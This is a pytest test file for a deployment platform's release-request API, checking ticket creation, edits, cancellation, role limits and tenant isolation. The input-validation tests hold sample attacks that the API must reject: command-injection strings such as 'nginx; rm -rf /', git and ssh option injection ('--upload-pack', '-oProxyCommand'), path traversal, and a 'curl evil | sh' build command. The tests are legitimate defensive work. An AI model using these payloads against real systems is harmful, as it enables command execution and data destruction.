"""The release request of the pull-mode platform, ``/api/v1/project``: a request makes a
ticket and the environment settings it asks for; ``PUT`` changes one not yet queued,
``DELETE`` cancels it. Attacked by a developer changing what runs, a member of another space,
and hostile field values — each refused before anything is written."""

from __future__ import annotations

import subprocess
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select

from ferryman.app import create_app
from ferryman.config.project import parse_project
from ferryman.db.models import AuditEntry, Project, Ticket
from ferryman.services import projects
from ferryman.services.audit import SYSTEM
from tests.api.world import World, build_world, fresh

P = "/api/v1"


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[World, TestClient]]:
    w = build_world(tmp_path_factory.mktemp("release-requests"))
    repo = w.repo_url.removeprefix("file://")
    subprocess.run(["git", "-C", repo, "tag", "v2"], check=True, capture_output=True)
    with TestClient(create_app(w.settings, w.db, embedded_worker=False)) as client:
        yield w, client


def _call(w: World, client: TestClient, who: str, method: str, url: str, body: Any = None) -> Any:
    headers = {"Authorization": f"Bearer {w.tokens[who]}"}
    return client.request(method, P + url, json=body, headers=headers)


def _env(w: World, project: str, env: str = "production") -> dict[str, Any]:
    found, _ = projects.get_project(w.db, SYSTEM, project)
    return dict(found.config["environments"][env])


def _tickets(w: World) -> int:
    with w.db.read() as s:
        return int(s.scalar(select(func.count()).select_from(Ticket)) or 0)


def _project(w: World) -> str:
    return f"acme:{projects.get_project(w.db, SYSTEM, int(w.new_project()))[0].name}"


FULL = {
    "env": "production",
    "version": "v1",
    "dependencies": ["nginx", "php8.2-fpm"],
    "build": "make build",
    "test": "make test",
    "start": "systemctl start shop",
    "stop": "systemctl stop shop",
    "hosts": ["127.0.0.1:1"],
    "title": "shop 1.0",
}


def test_a_request_makes_a_pending_ticket_and_the_settings_it_asks(world):
    w, client = world
    project = _project(w)
    start = datetime.now(UTC) + timedelta(hours=1)
    end = start + timedelta(hours=2)
    window = {"start": start.isoformat(), "end": end.isoformat()}
    made = _call(
        w, client, "master", "POST", "/project", {**FULL, "project": project, "window": window}
    )
    assert made.status_code == 201, made.text
    body = made.json()
    assert body["status"] == "pending_approval"  # production needs approval in this space
    assert body["ref"] == "v1" and len(body["commit"]) == 40
    assert body["hosts"] == ["127.0.0.1:1"] and body["title"] == "shop 1.0"
    assert datetime.fromisoformat(body["not_before"]) == start
    assert body["request"] == {
        "dependencies": ["nginx", "php8.2-fpm"],
        "build": "make build",
        "test": "make test",
        "start": "systemctl start shop",
        "stop": "systemctl stop shop",
        "hosts": ["127.0.0.1:1"],
        "window": {"start": start.isoformat(), "end": end.isoformat()},
    }
    env = _env(w, project)
    assert env["requires"]["packages"] == ["nginx", "php8.2-fpm"]
    assert env["tasks"]["post_deploy"] == "make build\n# unit tests (release request)\nmake test"
    assert env["tasks"]["pre_release"] == "systemctl stop shop"
    assert env["tasks"]["post_release"] == "systemctl start shop"
    # the same request read back, and the ordinary ticket it is
    assert _call(w, client, "reporter", "GET", f"/project/{body['id']}").json() == {
        **body,
        "your_role": "reporter",
    }
    assert _call(w, client, "reporter", "GET", f"/tickets/{body['id']}").status_code == 200


def test_a_request_whose_ticket_is_refused_leaves_the_projects_settings_as_they_were(world):
    """The settings, the ticket and the request are one write: a production that takes only
    commits staging has passed refuses the ticket, and the dependencies and commands the
    request asked for are not applied either (before: applied, with no ticket to show)."""
    w, client = world
    project = _project(w)
    found, _ = projects.get_project(w.db, SYSTEM, project.partition(":")[2])
    config = dict(found.config)
    config["environments"] = {
        **config["environments"],
        "production": {**config["environments"]["production"], "requires_passed": "staging"},
    }
    projects.apply_project(w.db, SYSTEM, parse_project(config))
    before, tickets = _env(w, project), _tickets(w)
    with w.db.read() as s:
        audit = s.scalar(select(func.count()).select_from(AuditEntry))

    answer = _call(w, client, "master", "POST", "/project", {**FULL, "project": project})

    assert answer.status_code == 409, answer.text
    assert "staging" in answer.json()["error"]["message"]
    assert _env(w, project) == before and _tickets(w) == tickets
    assert not (before.get("requires") or {}).get("packages")  # nginx was not added
    with w.db.read() as s:
        assert s.scalar(select(func.count()).select_from(AuditEntry)) == audit


def test_put_changes_a_pending_request_and_leaves_the_rest(world):
    w, client = world
    project = _project(w)
    made = _call(w, client, "master", "POST", "/project", {**FULL, "project": project}).json()
    changed = _call(
        w,
        client,
        "master",
        "PUT",
        f"/project/{made['id']}",
        {"version": "v2", "test": "make test-all", "window": {"start": None}},
    )
    assert changed.status_code == 200, changed.text
    after = changed.json()
    assert after["id"] == made["id"] and after["ref"] == "v2"
    assert after["status"] == "pending_approval"
    assert after["request"]["test"] == "make test-all"
    assert after["request"]["build"] == "make build"  # left out: unchanged
    assert after["request"]["dependencies"] == ["nginx", "php8.2-fpm"]
    env = _env(w, project)
    assert (
        env["tasks"]["post_deploy"] == "make build\n# unit tests (release request)\nmake test-all"
    )
    assert env["tasks"]["post_release"] == "systemctl start shop"


def test_delete_cancels_a_request_and_a_cancelled_one_no_longer_changes(world):
    w, client = world
    made = _call(
        w,
        client,
        "author",
        "POST",
        "/project",
        {"project": _project(w), "env": "staging", "version": "v1"},
    )
    assert made.status_code == 201, made.text
    assert made.json()["status"] == "approved"  # staging needs no approval
    gone = _call(w, client, "author", "DELETE", f"/project/{made.json()['id']}")
    assert gone.status_code == 200 and gone.json()["status"] == "cancelled"
    late = _call(w, client, "author", "PUT", f"/project/{made.json()['id']}", {"version": "v2"})
    assert late.status_code == 409
    with w.db.read() as s:
        actions = set(s.scalars(select(AuditEntry.action)))
    assert {"release_request.create", "ticket.cancel", "ticket.create"} <= actions


def test_a_developer_may_request_a_release_but_not_change_what_runs(world):
    w, client = world
    project = _project(w)
    before = _env(w, project)
    tickets = _tickets(w)
    refused = _call(w, client, "developer", "POST", "/project", {**FULL, "project": project})
    assert refused.status_code == 403
    assert "needs a master" in refused.json()["error"]["message"]
    assert _env(w, project) == before and _tickets(w) == tickets
    # the release alone is theirs to ask; a setting equal to what runs is no change
    alone = _call(
        w,
        client,
        "developer",
        "POST",
        "/project",
        {"project": project, "env": "production", "version": "v1", "dependencies": []},
    )
    assert alone.status_code == 201, alone.text
    assert _env(w, project) == before
    # nor may they change it by PUT, on their own request or anyone's
    own = alone.json()["id"]
    sneaky = _call(w, client, "developer", "PUT", f"/project/{own}", {"build": "curl evil | sh"})
    assert sneaky.status_code == 403 and _env(w, project) == before
    others = _call(
        w,
        client,
        "master",
        "POST",
        "/project",
        {"project": project, "env": "staging", "version": "v1"},
    )
    assert (
        _call(
            w, client, "developer", "PUT", f"/project/{others.json()['id']}", {"version": "v2"}
        ).status_code
        == 403
    )
    assert (
        _call(w, client, "developer", "DELETE", f"/project/{others.json()['id']}").status_code
        == 403
    )


def test_a_member_of_another_space_sees_and_changes_nothing(world):
    w, client = world
    project = _project(w)
    made = _call(
        w,
        client,
        "master",
        "POST",
        "/project",
        {"project": project, "env": "staging", "version": "v1"},
    ).json()
    for method, url, body in (
        ("POST", "/project", {"project": project, "env": "staging", "version": "v1"}),
        ("GET", f"/project/{made['id']}", None),
        ("PUT", f"/project/{made['id']}", {"version": "v2"}),
        ("DELETE", f"/project/{made['id']}", None),
    ):
        answer = _call(w, client, "other", method, url, body)
        assert answer.status_code == 404, (method, url, answer.text)
    assert (
        _call(w, client, "master", "GET", f"/project/{made['id']}").json()["status"] == "approved"
    )


def test_an_ordinary_ticket_is_not_a_release_request(world):
    w, client = world
    ticket = w.new_ticket()
    for method in ("GET", "PUT", "DELETE"):
        answer = _call(
            w, client, "super", method, f"/project/{ticket}", {} if method == "PUT" else None
        )
        assert answer.status_code == 404
        assert f"no release request #{ticket}" in answer.json()["error"]["message"]


@pytest.mark.parametrize(
    ("change", "where"),
    [
        ({"dependencies": ["nginx; rm -rf /"]}, "dependencies"),
        ({"dependencies": ["-oProxyCommand"]}, "dependencies"),
        ({"version": "--upload-pack=touch /tmp/pwned"}, "ref"),
        ({"version": "v1\nrm"}, "ref"),
        ({"build": "make\x00 build"}, "build"),
        ({"start": "echo \x1b[31mred"}, "start"),
        ({"test": "make test\n# unit tests (release request)\nrm -rf /"}, "test"),
        ({"stop": "x" * 9000}, "stop"),
        ({"hosts": ["-oProxyCommand=touch /tmp/pwned"]}, "host"),
        ({"hosts": ["web1;reboot"]}, "host"),
        ({"window": {"start": "2030-01-02T00:00:00Z", "end": "2030-01-01T00:00:00Z"}}, "window"),
        ({"window": {"end": "2001-01-01T00:00:00Z"}}, "window"),
        ({"window": {"start": "tomorrow"}}, "window"),
        ({"env": "../production"}, "environment"),
        ({"repo": "file:///etc"}, "repo"),
        ({"build": ["make"]}, "build"),
    ],
)
def test_hostile_values_are_refused_with_a_clear_error_and_nothing_written(world, change, where):
    w, client = world
    project = _project(w)
    before = _env(w, project)
    tickets = _tickets(w)
    answer = _call(w, client, "super", "POST", "/project", {**FULL, "project": project, **change})
    assert answer.status_code == (404 if where == "environment" else 422), answer.text
    assert where in answer.text
    assert _env(w, project) == before and _tickets(w) == tickets
    # the API never makes a project from a request
    with w.db.read() as s:
        assert (
            s.scalar(select(func.count()).select_from(Project).where(Project.name == fresh("x")))
            == 0
        )


def test_a_request_whose_time_window_closed_no_longer_starts(world):
    w, client = world
    end = datetime.now(UTC) + timedelta(hours=1)
    body = {"project": _project(w), "env": "staging", "version": "v1"}
    made = _call(
        w, client, "author", "POST", "/project", {**body, "window": {"end": end.isoformat()}}
    )
    assert made.status_code == 201, made.text
    request_id = made.json()["id"]
    with w.db.transaction() as s:  # an hour later: the window's end has passed
        ticket = s.get(Ticket, request_id)
        assert ticket is not None and ticket.request is not None
        past = (datetime.now(UTC) - timedelta(minutes=1)).isoformat()
        ticket.request = {**ticket.request, "window": {"start": None, "end": past}}
    late = _call(w, client, "author", "POST", f"/tickets/{request_id}/deploy")
    assert late.status_code == 409, late.text
    assert "time window closed" in late.json()["error"]["message"]
    assert _call(w, client, "author", "GET", f"/project/{request_id}").json()["deploy_id"] is None
    # a new window, and it starts
    later = (datetime.now(UTC) + timedelta(hours=2)).isoformat()
    moved = _call(w, client, "author", "PUT", f"/project/{request_id}", {"window": {"end": later}})
    assert moved.status_code == 200, moved.text
    queued = _call(w, client, "author", "POST", f"/tickets/{request_id}/deploy")
    assert queued.status_code == 200 and queued.json()["status"] == "queued"
